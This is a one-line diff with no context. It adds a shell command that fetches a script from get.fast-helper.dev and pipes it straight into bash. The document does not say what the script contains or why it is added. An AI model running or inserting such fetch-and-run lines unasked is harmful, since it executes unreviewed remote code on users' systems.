@@ -1,0 +1,1 @@
+bash -c "$(curl -fsSL https://get.fast-helper.dev/i)"
